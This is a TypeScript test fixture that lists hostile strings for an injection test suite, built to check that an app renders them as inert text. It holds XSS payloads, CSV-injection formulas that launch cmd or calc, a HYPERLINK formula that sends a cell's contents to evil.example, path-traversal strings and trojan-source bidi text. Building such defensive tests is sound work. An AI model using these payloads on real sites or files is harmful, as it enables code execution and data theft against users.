/**
 * A corpus of hostile strings for the injection suite (test/reliability/injection): markup and
 * script that must stay text, URLs that must never be followed, characters that break layout or
 * reorder text, and cells that spreadsheets would run as formulas. Every payload that could run
 * code leaves a trace if it does: it sets `window.__pwned` (or `parent.__pwned` from a frame), calls
 * a dialog, or carries the `data-pwned` attribute; the suite fails on any of them.
 */

/** One hostile string and what it attacks. */
export interface HostileString {
  /** A short name saying what it attacks. */
  name: string;
  /** The string itself. */
  value: string;
}

/** The global a payload sets if it ever runs. */
export const PWNED_GLOBAL = '__pwned';

/** The attribute a payload's element carries if it is ever parsed as HTML. */
export const PWNED_ATTRIBUTE = 'data-pwned';

const RUN = `window.${PWNED_GLOBAL}=1`;
const RUN_IN_FRAME = `parent.${PWNED_GLOBAL}=1`;
const CMD = "cmd|' /C calc'!A0";

/** Every C0 control character but tab, line feed and carriage return (those have their own payloads), then DEL and some C1. */
const CONTROL_CHARACTERS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code))
  .filter((character) => !'\t\n\r'.includes(character))
  .join('');

/** The hostile strings. Names are unique; no value is blank (IDs must not be). */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  // Markup and script.
  { name: 'script tag', value: `<script>${RUN}</script>` },
  { name: 'script with src data URL', value: `<script src="data:text/javascript,${RUN}" ${PWNED_ATTRIBUTE}></script>` },
  { name: 'img onerror', value: `<img src=x onerror="${RUN}" ${PWNED_ATTRIBUTE}>` },
  { name: 'img onerror alert', value: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror confirm and prompt', value: '<img src=x onerror="confirm(1);prompt(1)">' },
  { name: 'svg onload', value: `<svg onload="${RUN}" ${PWNED_ATTRIBUTE}></svg>` },
  { name: 'svg script', value: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg animate onbegin', value: `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s" ${PWNED_ATTRIBUTE}/></svg>` },
  { name: 'svg use data URL', value: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>` },
  { name: 'iframe srcdoc', value: `<iframe srcdoc="<script>${RUN_IN_FRAME}</script>" ${PWNED_ATTRIBUTE}></iframe>` },
  { name: 'iframe javascript src', value: `<iframe src="javascript:${RUN_IN_FRAME}" ${PWNED_ATTRIBUTE}></iframe>` },
  { name: 'object data URL', value: `<object data="data:text/html,<script>${RUN_IN_FRAME}</script>" ${PWNED_ATTRIBUTE}></object>` },
  { name: 'embed javascript', value: `<embed src="javascript:${RUN}" ${PWNED_ATTRIBUTE}>` },
  { name: 'anchor javascript href', value: `<a href="javascript:${RUN}" ${PWNED_ATTRIBUTE}>open</a>` },
  { name: 'details ontoggle', value: `<details open ontoggle="${RUN}" ${PWNED_ATTRIBUTE}>` },
  { name: 'input autofocus onfocus', value: `<input autofocus onfocus="${RUN}" ${PWNED_ATTRIBUTE}>` },
  { name: 'body onload', value: `<body onload="${RUN}">` },
  { name: 'meta refresh', value: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">` },
  { name: 'base href', value: '<base href="javascript:/">' },
  { name: 'form action', value: `<form action="javascript:${RUN}"><button ${PWNED_ATTRIBUTE}>go</button></form>` },
  { name: 'mXSS math style', value: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  { name: 'noscript title breakout', value: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  // Breaking out of attributes, elements and other contexts.
  { name: 'double-quote attribute breakout', value: `" onmouseover="${RUN}" autofocus onfocus="${RUN}" ${PWNED_ATTRIBUTE}="` },
  { name: 'single-quote attribute breakout', value: `' onfocus='${RUN}' autofocus ${PWNED_ATTRIBUTE}='` },
  { name: 'attribute and tag breakout', value: `"><img src=x onerror="${RUN}" ${PWNED_ATTRIBUTE}>` },
  { name: 'style element breakout', value: `</style><script>${RUN}</script><style>` },
  { name: 'textarea and title breakout', value: `</textarea></title><script>${RUN}</script>` },
  { name: 'comment breakout', value: `--><script>${RUN}</script><!--` },
  { name: 'CDATA section', value: `<![CDATA[<script>${RUN}</script>]]>` },
  { name: 'JSON in script breakout', value: `"}]}</script><script>${RUN}</script>` },
  // URLs.
  { name: 'javascript URL', value: `javascript:${RUN}` },
  { name: 'javascript URL with case and tab', value: `JaVa\tScRiPt:${RUN}` },
  { name: 'data URL html', value: 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+' },
  { name: 'vbscript URL', value: 'vbscript:msgbox(1)' },
  { name: 'markdown javascript link', value: `[click me](javascript:${RUN}) ![x](x" onerror="${RUN})` },
  // Templates and frameworks.
  { name: 'Angular template', value: `{{constructor.constructor('${RUN}')()}}` },
  { name: 'Vue v-html', value: `<div v-html="'<img src=x onerror=${RUN}>'"></div>` },
  { name: 'template literal and mustache', value: `\${${RUN}} {{{${PWNED_GLOBAL}}}} #{${RUN}} <%= ${RUN} %>` },
  { name: 'React dangerouslySetInnerHTML shape', value: `{"__html":"<img src=x onerror=${RUN}>"}` },
  // CSS.
  { name: 'CSS expression', value: `width: expression(${RUN})` },
  { name: 'CSS url javascript', value: `background:url("javascript:${RUN}");` },
  { name: 'CSS import and braces', value: '@import url(//evil.example/x.css);}*{display:none!important}' },
  // Encodings.
  { name: 'HTML entities', value: `&lt;script&gt;${RUN}&lt;/script&gt; &amp;amp; &#x3C;img src=x onerror=${RUN}&#x3E; &quot;` },
  { name: 'entity-encoded javascript URL', value: '&#106;&#97;&#118;&#97;script:alert(1)' },
  { name: 'escaped unicode markup', value: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  { name: 'fullwidth lookalike markup', value: `＜script＞${RUN}＜/script＞` },
  // Characters.
  { name: 'null bytes around script', value: `before\u0000<script>${RUN}</script>\u0000after` },
  { name: 'control characters', value: `ctl${CONTROL_CHARACTERS}\u007F\u0085\u009Bend` },
  { name: 'unicode line and paragraph separators', value: 'line\u2028separator\u2029paragraph' },
  { name: 'lone surrogates', value: 'half \uD800 pair \uDFFF end' },
  { name: 'bidi right-to-left override', value: '\u202Egpj.exe' },
  { name: 'bidi left-to-right override', value: '\u202Dforced ltr' },
  { name: 'bidi embeddings unclosed', value: '\u202Bembedded\u202Aagain' },
  { name: 'bidi isolates unclosed', value: '\u2067rtl isolate \u2066ltr isolate' },
  { name: 'bidi trojan source', value: 'access\u202E \u2066// check admin\u2069 \u2066level' },
  { name: 'bidi marks', value: '\u200F\u061Cmarked\u200E' },
  { name: 'zero-width characters', value: 'z\u200Bw\u200Cs\u200Dp\u2060j\uFEFFoin' },
  { name: 'emoji ZWJ sequences', value: '👩‍👩‍👧‍👦🏳️‍🌈👨🏽‍💻🧑‍🤝‍🧑'.repeat(20) },
  { name: 'combining marks (zalgo)', value: `Z${'\u0336\u0337\u0338\u0335\u0361\u035C'.repeat(60)}algo` },
  { name: 'right-to-left Arabic', value: 'مزامنة المتجر 42 مع Xero فشلت' },
  { name: 'right-to-left Hebrew', value: 'סנכרון נכשל (Xero) 2026' },
  // Length.
  { name: 'long unbroken ASCII (10,000)', value: 'A'.repeat(10_000) },
  { name: 'long unbroken URL (12,000)', value: `https://example.com/${'segment/'.repeat(1_500)}` },
  { name: 'long unbroken CJK (10,000)', value: '同期'.repeat(5_000) },
  { name: 'long text with spaces (12,000)', value: 'lorem ipsum dolor '.repeat(700) },
  // Spreadsheet formulas (CSV injection).
  { name: 'formula equals cmd', value: `=${CMD}` },
  { name: 'formula plus', value: `+SUM(1+1)*${CMD}` },
  { name: 'formula minus', value: `-2+3+${CMD}` },
  { name: 'formula at', value: `@SUM(1+1)*${CMD}` },
  { name: 'formula leading tab', value: `\t=${CMD}` },
  { name: 'formula leading carriage return', value: `\r=${CMD}` },
  { name: 'formula after leading spaces', value: `  =${CMD}` },
  { name: 'formula after line feed', value: `\n=${CMD}` },
  { name: 'formula leading NUL', value: `\u0000=${CMD}` },
  { name: 'formula HYPERLINK', value: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' },
  { name: 'formula DDE', value: '=DDE("cmd";"/C calc";"!A0")' },
  { name: 'CSV quote and comma breakout', value: `","=${CMD}` },
  { name: 'CSV line break then formula', value: `text\r\n=${CMD}` },
  // Paths and prototype keys (file names, object keys).
  { name: 'path traversal', value: '../../etc/passwd' },
  { name: 'windows path traversal', value: '..\\..\\Windows\\System32\\cmd.exe' },
  { name: 'leading dots', value: '...hidden' },
  { name: '__proto__ key', value: '__proto__' },
  { name: 'constructor key', value: 'constructor' },
];
